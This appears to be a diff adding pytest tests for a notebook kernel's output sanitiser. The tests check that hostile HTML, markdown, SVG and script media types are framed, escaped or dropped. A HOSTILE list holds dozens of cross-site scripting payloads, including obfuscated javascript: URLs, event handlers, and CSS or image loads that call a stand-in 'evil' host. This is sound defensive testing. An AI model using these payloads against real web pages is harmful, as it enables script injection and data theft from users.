@@ -1,0 +1,136 @@
+"""What cells show in a browser runs nothing there and loads nothing: a front end trusts it, and the sandbox ends there."""
+
+from __future__ import annotations
+
+import pytest
+
+from toolcell.kernel.shown import FRAME, plain_markdown, shown, shown_metadata
+
+PANDAS = """<div>
+<style scoped>
+    .dataframe tbody tr th:only-of-type {
+        vertical-align: middle;
+    }
+    .dataframe thead th { text-align: right; }
+</style>
+<table border="1" class="dataframe">
+  <thead><tr style="text-align: right;"><th></th><th>a &lt; b</th></tr></thead>
+  <tbody><tr><th>0</th><td>1</td></tr></tbody>
+</table>
+</div>"""
+PIXEL = "data:image/png;base64,iVBORw0KGgo="
+
+PLAIN = [
+    PANDAS,
+    "",
+    "text with an &amp; and a > sign",
+    f'<img src="{PIXEL}" width=10 alt="a dot">',
+    '<a href="https://example.com/x?a=1&amp;b=2">link</a><br/><hr>',
+    "<b style='color: red; background-color: #fff'>x</b>",
+    '<style type="text/css">\n#T_a_row0_col0 { background-color: yellow; }\n</style>\n<table id="T_a"></table>',
+]
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<SCRIPT src=//evil/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='https://evil/?leak'>",
+    "<img srcset='https://evil/ 1x'>",
+    '<img src="data:text/html;base64,AAAA">',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="&#106;avascript:alert(1)">x</a>',
+    '<a href="java\nscript:alert(1)">x</a>',
+    '<a href="data:text/html,<script>1</script>">x</a>',
+    "<a<style></style> href=x onclick=alert(1)>",
+    "<div onclick=alert(1)>",
+    "<div style='background: url(https://evil/)'>",
+    "<div style='background: u&#114;l(https://evil/)'>",
+    "<div style='background: image-set(\"https://evil/\" 1x)'>",
+    "<div style='background: \\75rl(https://evil/)'>",
+    "<div style='position: fixed; top: 0'>",
+    "<style>@import 'https://evil/x.css';</style>",
+    "<style>b { background: url(https://evil/) }</style>",
+    "<style>b {}</style x><img src=x onerror=alert(1)>",
+    "<style><!--</style><img src=x onerror=alert(1)>-->",
+    "<svg onload=alert(1)>",
+    "<math><mtext></math><img src=x onerror=alert(1)>",
+    "<iframe src=https://evil/></iframe>",
+    "<form action=https://evil/><input></form>",
+    "<meta http-equiv=refresh content='0;url=https://evil/'>",
+    "<link rel=stylesheet href=https://evil/x.css>",
+    "<base href=https://evil/>",
+    "<object data=https://evil/></object>",
+    "<!-- --><b>x</b>",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<b title='<img src=x onerror=alert(1)>'>",
+    '<b title="a"onclick="alert(1)">',
+    "<b/onclick=alert(1)>",
+    "<b\x00onclick=alert(1)>",
+    "< script>alert(1)</ script>",
+    "<textarea></textarea><script>1</script>",
+    "<template shadowrootmode=open><script>1</script></template>",
+]
+
+
+@pytest.mark.parametrize("form", PLAIN)
+def test_plain_html_is_shown_as_it_is(form: str) -> None:
+    assert shown({"text/html": form}) == {"text/html": form}
+
+
+@pytest.mark.parametrize("form", HOSTILE)
+def test_other_html_is_in_a_frame_that_runs_and_loads_nothing(form: str) -> None:
+    (framed,) = shown({"text/html": form}).values()
+
+    head, _, rest = FRAME.partition("{0}")
+    assert framed.startswith(head) and framed.endswith(rest)
+    assert 'sandbox=""' in head
+    inner = framed.removeprefix(head).removesuffix(rest)
+    assert not set(inner) & set("<>\"'"), "nothing in it ends the attribute"
+    assert "default-src &#x27;none&#x27;" in inner
+
+
+@pytest.mark.parametrize("form", HOSTILE)
+def test_markdown_has_no_such_elements(form: str) -> None:
+    assert "<" not in plain_markdown(f"# Title\n\n{form}")
+
+
+@pytest.mark.parametrize(
+    ("form", "expected"),
+    [
+        ("# a < b\n\n*x* <b>y</b> [l](https://example.com)", "# a < b\n\n*x* <b>y</b> [l](https://example.com)"),
+        ("![p](https://evil/?leak)", "\\![p](https://evil/?leak)"),
+        ("![p][r]\n\n[r]: https://evil/", "\\![p][r]\n\n[r]: https://evil/"),
+        (f"![p]({PIXEL})", f"![p]({PIXEL})"),
+        ("[x](javascript:alert(1))", "[x](javascript&#8203;:alert(1))"),
+        ("[x](JavaScript :alert(1))", "[x](JavaScript&#8203; :alert(1))"),
+    ],
+)
+def test_markdown_keeps_what_is_plain(form: str, expected: str) -> None:
+    assert plain_markdown(form) == expected
+
+
+def test_media_types_that_run_code_are_not_shown_and_the_others_are() -> None:
+    data = {
+        "text/plain": "text",
+        "text/latex": "$x$",
+        "image/png": "iVBORw0KGgo=",
+        "application/vnd.plotly.v1+json": {"data": []},
+        "application/javascript": "alert(1)",
+        "application/vnd.bokehjs_exec.v0+json": "",
+        "application/vnd.jupyter.widget-view+json": {},
+    }
+    assert list(shown(data)) == list(data)[:4]
+    assert shown({"application/javascript": "alert(1)"}) == {
+        "text/plain": "<an output of application/javascript, which this kernel does not show>"
+    }
+
+
+def test_a_drawing_with_a_script_is_not_shown() -> None:
+    assert "image/svg+xml" in shown({"image/svg+xml": "<svg xmlns='x'><path d='M0'/></svg>"})
+    for hostile in ("<svg><script>1</script></svg>", "<svg onload='1'/>", "<!DOCTYPE a [<!ENTITY b 'c'>]><svg/>"):
+        assert "image/svg+xml" not in shown({"image/svg+xml": hostile})
+
+
+def test_metadata_are_sizes_only() -> None:
+    given = {"image/png": {"width": 10, "height": 5.5, "x": 1}, "text/html": {"isolated": True}, "width": True, "y": 2}
+    assert shown_metadata(given) == {"image/png": {"width": 10, "height": 5.5}}
+    assert shown_metadata([1]) == {}
